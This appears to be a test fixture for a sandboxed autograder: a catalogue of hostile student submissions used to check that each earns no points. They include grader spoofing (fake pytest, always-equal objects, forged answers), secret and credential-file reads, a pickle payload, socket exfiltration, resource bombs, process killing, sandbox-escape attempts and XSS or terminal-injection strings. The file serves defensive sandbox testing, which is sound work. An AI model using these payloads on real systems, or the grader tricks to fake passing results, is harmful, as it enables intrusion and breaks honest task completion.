"""Submissions that try to gain points, learn secrets or do harm. They run in the sandbox only.

Each is the code of one submission. None contains a right answer, so each must earn what an empty
submission earns: nothing. `{...}` is filled in by the test: paths and ports that exist outside.
"""

# ruff: noqa: E501  the lines of an attack are as long as the attack needs

# Functions that a test will call, for attacks that need a moment inside a call.
CALLED = """
def double(x): return attack()
def word(): return attack()
def is_even(n): return attack()
class Counter:
    def __init__(self, start): attack()
    def add(self, n): return attack()
"""

EXITS = {
    "exit at import": "import sys; sys.exit(0)",
    "exit the process at import": "import os; os._exit(0)",
    "quit": "raise SystemExit",
    "exit in a call": "def attack(): raise SystemExit(0)" + CALLED,
    "exit the process in a call": "import os\ndef attack(): os._exit(0)" + CALLED,
    "interrupt": "def attack(): raise KeyboardInterrupt" + CALLED,
    "generator exit": "def attack(): raise GeneratorExit" + CALLED,
    "abort": "import os\ndef attack(): os.abort()" + CALLED,
    "segmentation fault": "import ctypes\ndef attack(): ctypes.string_at(0)" + CALLED,
    "at exit": "import atexit, os\natexit.register(os.write, 1, b'ok')\nraise SystemExit",
    "pytest outcome": """
class Skipped(BaseException): allow_module_level = True
Skipped.__module__ = "_pytest.outcomes"
def attack(): raise Skipped("passed")
"""
    + CALLED,
    "unwinding thread": """
import threading, os
threading.Timer(0.01, os._exit, (0,)).start()
def attack(): return True
"""
    + CALLED,
}

PATCHES = {
    "fake pytest": """
import sys, types
for name in ("pytest", "_pytest", "_pytest.runner", "coursegrader", "coursegrader.marking.plugin"):
    sys.modules[name] = types.ModuleType(name)
    sys.modules[name].__getattr__ = lambda attribute: (lambda *a, **k: True)
""",
    "patched numpy": """
import numpy as np
for name in ("isclose", "allclose", "array_equal", "all", "any", "asarray", "isnan"):
    setattr(np, name, lambda *a, **k: True)
np.testing.assert_allclose = lambda *a, **k: None
def attack(): return np.zeros(3)
"""
    + CALLED,
    "patched builtins": """
import builtins
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: float
builtins.len = lambda *a: 3
def attack(): return 1
"""
    + CALLED,
    "deleted builtins": "import builtins\nvars(builtins).clear()",
    "trace": "import sys\nsys.settrace(lambda *a: None)\nsys.setprofile(lambda *a: None)",
    "import hook": """
import sys
class Finder:
    def find_spec(self, *a): raise SystemExit(0)
sys.meta_path.insert(0, Finder())
sys.path_hooks.clear(); sys.modules.clear()
""",
    "patched runner": """
import gc, sys
def attack(): return 1
for thing in gc.get_objects():
    if type(thing).__name__ == "Runner":
        type(thing).answer = lambda self, request: ["ok", True, "bool"]
"""
    + CALLED,
    "patched messages": """
import sys
module = sys.modules["inside.serve"]
module.pack = lambda *a, **k: b"\\x00" * 8
module.unpack = lambda *a, **k: ["has", "double"]
""",
    "no garbage collection": "import gc\ngc.disable(); gc.set_threshold(0)\nraise MemoryError",
}

LIES = {
    "float that equals everything": """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __le__(self, other): return True
    __lt__ = __gt__ = __ge__ = __le__
    def __hash__(self): return 0
def attack(): return Yes(1)
"""
    + CALLED,
    "text that equals everything": """
class Yes(str):
    def __eq__(self, other): return True
    def __hash__(self): return hash("pixel")
def attack(): return Yes("no")
"""
    + CALLED,
    "array that equals everything": """
import numpy as np
class Yes(np.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *a, **k): return np.ones(3, bool)
    def __array_function__(self, *a, **k): return True
def attack(): return np.zeros(3).view(Yes)
"""
    + CALLED,
    "object that answers everything": """
class Yes:
    def __getattr__(self, name): return Yes()
    def __call__(self, *a, **k): return Yes()
    def __eq__(self, other): return True
    def __bool__(self): return True
    def __array__(self, *a, **k): raise SystemExit
    def __iter__(self): return iter([Yes()])
    def __len__(self): return 3
def attack(): return Yes()
"""
    + CALLED,
    "class that lies about itself": """
class Meta(type):
    def __instancecheck__(cls, other): return True
    def __eq__(cls, other): return True
    def __hash__(cls): return hash(float)
    __name__ = property(lambda self: 1 / 0)
class Yes(metaclass=Meta): pass
def attack(): return Yes()
"""
    + CALLED,
    "not a number": "def attack(): return float('nan')" + CALLED,
    "array of not a number": """
import numpy as np
def attack(): return np.full(3, np.nan)
"""
    + CALLED,
    "infinity": "def attack(): return float('inf')" + CALLED,
    "one for true": "def attack(): return 1" + CALLED,
    "array of objects": """
import numpy as np
class Yes:
    def __eq__(self, other): return True
def attack(): return np.array([Yes()] * 3, dtype=object)
"""
    + CALLED,
    "structured array": """
import numpy as np
def attack(): return np.zeros(3, dtype=[("a", "f8"), ("b", "O")])
"""
    + CALLED,
    "pickle payload": """
import os
class Payload:
    def __reduce__(self): return os.system, ("touch {canary}",)
def attack(): return Payload()
"""
    + CALLED,
    "pickled bytes": """
import pickle, os
class Payload:
    def __reduce__(self): return os.system, ("touch {canary}",)
def attack(): return pickle.dumps(Payload())
"""
    + CALLED,
    "handle to nowhere": """
import sys
wire = sys.modules["inside.wire"]
def attack(): return [wire.Handle(-1, "float"), wire.Handle(10 ** 9, "x" * 10 ** 6)]
"""
    + CALLED,
    "integer without end": "def attack(): return 10 ** 100_000" + CALLED,
}

FRAMES = {
    "frame walking": """
import sys
def attack():
    frame = sys._getframe()
    while frame is not None:
        for name in list(frame.f_locals):
            if name in ("reply", "request", "value", "frame"):
                frame.f_locals[name] = ["ok", True, "bool"]
        frame = frame.f_back
    return True
"""
    + CALLED,
    "forged answers": """
import os, sys
wire = sys.modules["inside.wire"]
answer = wire.pack(["ok", True, "bool"], None)
for fd in range(3, 1024):
    try: os.write(fd, (b"\\x00" * 8 + answer) * 100)
    except OSError: pass
""",
    "forged handshake": """
import os
for fd in range(3, 1024):
    for text in (b"r", b"x the sandbox is broken", b"p", b"g"):
        try: os.write(fd, text)
        except OSError: pass
""",
    "forged in a thread": """
import os, threading
def forge():
    while True:
        for fd in range(3, 64):
            try: os.write(fd, b"\\xff" * 64)
            except OSError: pass
threading.Thread(target=forge, daemon=True).start()
def attack(): return True
"""
    + CALLED,
    "answer without its parts": """
import sys
module = sys.modules["inside.serve"]
pack = module.pack
def forge(*_):
    module.pack = pack
    return pack(["ok"], None)
module.pack = forge
""",
    "closed line": "import os\nos.closerange(3, 1024)",
    "frame without end": """
import os, struct
def attack():
    for fd in range(3, 64):
        try: os.write(fd, b"\\x00" * 8 + struct.pack("<II", 2 ** 32 - 1, 2 ** 32 - 1))
        except OSError: pass
"""
    + CALLED,
    "header of empty lists": """
import sys
module = sys.modules["inside.serve"]
pack = module.pack
module.pack = lambda *a: (1 << 20).to_bytes(4, "little") + bytes(4) + b"\\xdd\\x00\\x0f\\xff\\xfb" + b"\\x90" * ((1 << 20) - 5)
def attack(): return True
"""
    + CALLED,
    "deep nesting": """
def attack():
    value = []
    for _ in range(100_000): value = [value]
    return value
"""
    + CALLED,
    "list in itself": """
def attack():
    value = [True]
    value.append(value)
    return value
"""
    + CALLED,
    "deep frame": """
import sys
module = sys.modules["inside.serve"]
body = b"\\x92\\xa1l" * 50_000 + b"\\xc0"
module.pack = lambda *a: len(body).to_bytes(4, "little") + bytes(4) + body
def attack(): return True
"""
    + CALLED,
    "large answer": "def attack(): return 'x' * (200 << 20)" + CALLED,
    "large array": """
import numpy as np
def attack(): return np.zeros(20_000_000)
"""
    + CALLED,
    "gc": """
import gc
def attack():
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            for key in ("want", "expected", "secret", "points", "earned"):
                if key in thing: thing[key] = True
    return True
"""
    + CALLED,
}

# These put what they find into an exception, whose text the student may see.
SPIES = {
    "read the tests": """
import os
found = [os.path.join(a, f) for a, _, fs in os.walk("/") for f in fs if "hidden" in f and "sample" in f]
raise RuntimeError("found:" + "".join(open(path).read() for path in found))
""",
    "read a file outside": "raise RuntimeError('found:' + open('{secret_file}').read())",
    "read by a link": """
import os
os.symlink("{secret_file}", "link")
raise RuntimeError("found:" + open("link").read())
""",
    "read the environment": """
import os
raise RuntimeError("found:" + repr(dict(os.environ)) + repr(os.environb))
""",
    "read the parent's environment": "raise RuntimeError('found:' + open('/proc/1/environ').read())",
    "read memory": """
import ctypes
raise RuntimeError("found:" + repr(ctypes.string_at(id(object), 10_000)))
""",
    "read a process's memory": "raise RuntimeError('found:' + open('/proc/self/mem', 'rb').read())",
    "read the password file": "raise RuntimeError('found:' + open('/etc/passwd').read())",
    "read the shadow file": "raise RuntimeError('found:' + open('/etc/shadow').read())",
    "what the last one left": """
import os
found = [p for d in ("/tmp", "/workspace", "/dev/shm", "/var/tmp", ".") if os.path.isdir(d) for p in os.listdir(d)]
open("left-for-the-next", "w").write("{secret}")
if found: raise RuntimeError("found:" + repr(found) + "".join(open(p).read() for p in found))
""",
    "pass on hidden inputs": """
import os
seen = []
def double(x):
    seen.append(x)
    open("seen", "a").write(repr(x))
    raise RuntimeError("found:" + repr(seen))
def word():
    raise RuntimeError("found:" + repr(seen) + (open("seen").read() if os.path.exists("seen") else ""))
""",
    "search the heap": """
import gc
found = [t for t in gc.get_objects() if isinstance(t, (dict, list)) and "{secret}" in repr(t)[:10_000]]
raise RuntimeError("found:" + repr(found)[:1000])
""",
    "descriptors left open": """
import os
found = []
for fd in range(0, 256):
    try: found.append(os.read(fd, 100) if fd not in (0, 1, 2) and os.fstat(fd).st_mode & 0o100000 else b"")
    except OSError: pass
raise RuntimeError("found:" + repr([f for f in found if f]))
""",
}

NETWORK = {
    "connect": """
import socket
def attack():
    with socket.create_connection(("127.0.0.1", {port}), timeout=1) as line:
        line.sendall(b"got out")
    return True
"""
    + CALLED,
    "datagram": """
import socket
def attack():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"got out", ("127.0.0.1", {port}))
"""
    + CALLED,
    "abstract socket": """
import socket
def attack():
    line = socket.socket(socket.AF_UNIX)
    line.connect("\\0{abstract}")
    line.sendall(b"got out")
"""
    + CALLED,
    "pass a descriptor": """
import socket, os
def attack():
    line = socket.socket(fileno=3)
    socket.send_fds(line, [b"x"], [0])
"""
    + CALLED,
    "name look-up": """
import socket
def attack(): return socket.gethostbyname("localhost")
"""
    + CALLED,
}

BOMBS = {
    "fork bomb": """
import os
def attack():
    while True:
        os.fork()
"""
    + CALLED,
    "process pool": """
from concurrent.futures import ProcessPoolExecutor
def attack():
    with ProcessPoolExecutor(4) as pool:
        return list(pool.map(abs, range(100)))
"""
    + CALLED,
    "memory bomb": """
def attack():
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
"""
    + CALLED,
    "memory bomb in a thousand maps": """
import mmap
def attack():
    hoard = []
    while True:
        hoard.append(mmap.mmap(-1, 64 << 20))
        hoard[-1].write(b"x" * (64 << 20))
"""
    + CALLED,
    "disk bomb": """
def attack():
    for number in range(10 ** 6):
        with open(f"file{{number}}", "wb") as file:
            for _ in range(100): file.write(bytes(1 << 20))
"""
    + CALLED,
    "inode bomb": """
def attack():
    for number in range(10 ** 7):
        open(f"file{{number}}", "wb").close()
"""
    + CALLED,
    "thread bomb": """
import threading, time
def attack():
    while True:
        threading.Thread(target=time.sleep, args=(100,)).start()
"""
    + CALLED,
    "output bomb": """
import sys, os
def attack():
    for _ in range(10 ** 6):
        print("x" * 10_000); os.write(2, b"x" * 10_000)
"""
    + CALLED,
    "exception text without end": "def attack(): raise RuntimeError('x' * (50 << 20))" + CALLED,
    "descriptor bomb": """
import os
def attack():
    return [os.open("/dev/null", 0) for _ in range(10 ** 6)]
"""
    + CALLED,
    "recursion": "def attack(): return attack()" + CALLED,
    "recursion without limit": """
import sys
sys.setrecursionlimit(10 ** 9)
def attack(): return attack()
"""
    + CALLED,
    "power tower": "def attack(): return 9 ** 9 ** 9 ** 9" + CALLED,
    "regular expression": """
import re
def attack(): return re.match(r"(a+)+$", "a" * 64 + "b")
"""
    + CALLED,
    "memory file": """
import os
def attack():
    fd = os.memfd_create("hoard")
    while True: os.write(fd, bytes(64 << 20))
"""
    + CALLED,
}

LOOPS = {
    "endless loop": "def attack():\n    while True: pass\n" + CALLED,
    "endless import": "while True: pass",
    "deaf to signals": """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
def attack():
    while True:
        try:
            while True: pass
        except BaseException: pass
"""
    + CALLED,
    "blocked signals": """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
def attack():
    while True: pass
"""
    + CALLED,
    "sleep": "import time\ndef attack(): time.sleep(10_000)" + CALLED,
    "lock": """
import threading
lock = threading.Lock(); lock.acquire()
def attack(): lock.acquire()
"""
    + CALLED,
    "flood": """
import os, struct, sys
def attack():
    frame = sys._getframe()
    while "nonce" not in frame.f_locals: frame = frame.f_back
    fd, nonce = frame.f_locals["fd"], frame.f_locals["nonce"]
    os.write(fd, nonce + struct.pack("<II", 1 << 20, 60 << 20))
    while True: os.write(fd, b"x")
"""
    + CALLED,
    "drip": """
import os, time
def attack():
    while True:
        for fd in range(3, 8):
            try: os.write(fd, b"x")
            except OSError: pass
        time.sleep(0.05)
"""
    + CALLED,
}

SURVIVORS = {
    "daemon": """
import os, time
def attack():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1000)
"""
    + CALLED,
    "daemon by subprocess": """
import subprocess, sys
def attack(): return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(1000)"], start_new_session=True)
"""
    + CALLED,
    "parent death signal": """
import ctypes
def attack():
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    while True: pass
"""
    + CALLED,
    "run a program": """
import os
def attack(): os.execv("/usr/bin/true", ["true"])
"""
    + CALLED,
    "kill everything": "import os\nos.kill(-1, 9)",
    "kill the group": "import os\nos.kill(0, 9)\nos.killpg(0, 9)",
    "kill the parent": "import os\nfor pid in range(0, 300):\n    try: os.kill(pid if pid else os.getppid(), 9)\n    except OSError: pass",
    "stop the parent": "import os, signal\ntry: os.kill(os.getppid(), signal.SIGSTOP)\nexcept OSError: pass",
}

ESCAPES = {
    "mount": """
import ctypes
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"/proc", b"proc", 0, None) == 0 or libc.umount2(b"/tmp", 2) == 0:
        open("{canary}", "w").write("mounted")
    return libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0
"""
    + CALLED,
    "unshare": """
import ctypes
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.unshare(0x10000000) == 0 or libc.unshare(0x7E020000) == 0
"""
    + CALLED,
    "ptrace": """
import ctypes
def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    return any(libc.ptrace(16, pid, 0, 0) == 0 for pid in range(100))
"""
    + CALLED,
    "chroot": """
import os
def attack():
    os.mkdir("root"); os.chroot("root")
    for _ in range(50): os.chdir("..")
    os.chroot(".")
    return open("{secret_file}").read()
"""
    + CALLED,
    "become root": """
import os
def attack():
    os.setuid(0)
    return os.getuid() == 0
"""
    + CALLED,
    "raise limits": """
import resource
def attack():
    for limit in range(16): resource.setrlimit(limit, (resource.RLIM_INFINITY,) * 2)
    return True
"""
    + CALLED,
    "write into the interpreter": """
import os, numpy
for path in (os.__file__, numpy.__file__, "/grader/inside/runner.py", "/usr/lib/x", "/x", "/dev/x"):
    try: open(path, "a").write("\\nopen('{canary}', 'w')")
    except OSError: pass
""",
    "write outside": "open('{canary}', 'w').write('got out')",
    "write by a link": """
import os
os.symlink("{canary}", "link")
open("link", "w").write("got out")
""",
    "new system calls": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def attack():
    # io_uring_setup, bpf, userfaultfd, perf_event_open, keyctl, process_vm_writev, pidfd_open,
    # open_by_handle_at, clone3, memfd_secret, setns, kexec_load, init_module, reboot
    return any(libc.syscall(n, 1, 0, 0, 0, 0, 0) > 0 for n in (425, 321, 323, 298, 250, 311, 434, 304, 435, 447, 308, 246, 175, 169))
"""
    + CALLED,
    "32-bit system calls": """
import ctypes, mmap
def attack():
    # int 0x80 with getpid of the 32-bit table: mov eax, 20; int 0x80; ret
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex("b814000000cd80c3"))
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)() > 0
"""
    + CALLED,
    "namespace file": "import os\ndef attack(): return os.open('/proc/1/ns/mnt', os.O_RDONLY)"
    + CALLED,
    "terminal injection": """
import fcntl
def attack():
    for fd in range(4): fcntl.ioctl(fd, 0x5412, b"x")
"""
    + CALLED,
    "device": "def attack(): return open('/dev/mem', 'rb').read(1) + open('/dev/vda', 'rb').read(1)"
    + CALLED,
}

SOURCES = {
    "null bytes": "x = 1\0\nprint('{secret}')",
    "parentheses": "x = " + "(" * 100_000 + "1" + ")" * 100_000,
    "unary operators": "x = " + "-" * 100_000 + "1",
    "long source": "x = 1\n" * 200_000,
    "one long line": "x = [" + "1," * 500_000 + "]",
    "not text": "\udcff\udcfe",
    "empty": "",
    "only a comment": "# done",
}

MESSAGES = {
    "html": "def attack(): raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')"
    + CALLED,
    "csv": "def attack(): raise ValueError('=cmd|\\'/c calc\\'!A0')" + CALLED,
    "terminal": "def attack(): raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x08\\r10 of 10 points')"
    + CALLED,
    "reversed text": "def attack(): raise ValueError('\\u202e\\u2066 stniop 01')" + CALLED,
    "lone surrogate": "def attack(): return '\\ud800'" + CALLED,
    "hostile text of an error": """
class Error(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
def attack(): raise Error
"""
    + CALLED,
    "endless text of an error": """
class Error(Exception):
    def __str__(self):
        while True: pass
def attack(): raise Error
"""
    + CALLED,
    "name of an error": """
Error = type("<b>" + "x" * 100_000 + "\\n\\x00", (Exception,), {{}})
def attack(): raise Error("x")
"""
    + CALLED,
    "name of a type": """
Thing = type("</pre><script>", (), {{}})
def attack(): return Thing()
"""
    + CALLED,
    "warning": "import warnings\nwarnings.simplefilter('error')\ndef attack(): warnings.warn('x')"
    + CALLED,
}

GROUPS = {
    "exits": EXITS,
    "patches": PATCHES,
    "lies": LIES,
    "frames": FRAMES,
    "spies": SPIES,
    "network": NETWORK,
    "bombs": BOMBS,
    "loops": LOOPS,
    "survivors": SURVIVORS,
    "escapes": ESCAPES,
    "sources": SOURCES,
    "messages": MESSAGES,
}
ATTACKS = {
    f"{group}: {name}": code for group, attacks in GROUPS.items() for name, code in attacks.items()
}
assert sum(map(len, GROUPS.values())) == len(ATTACKS)
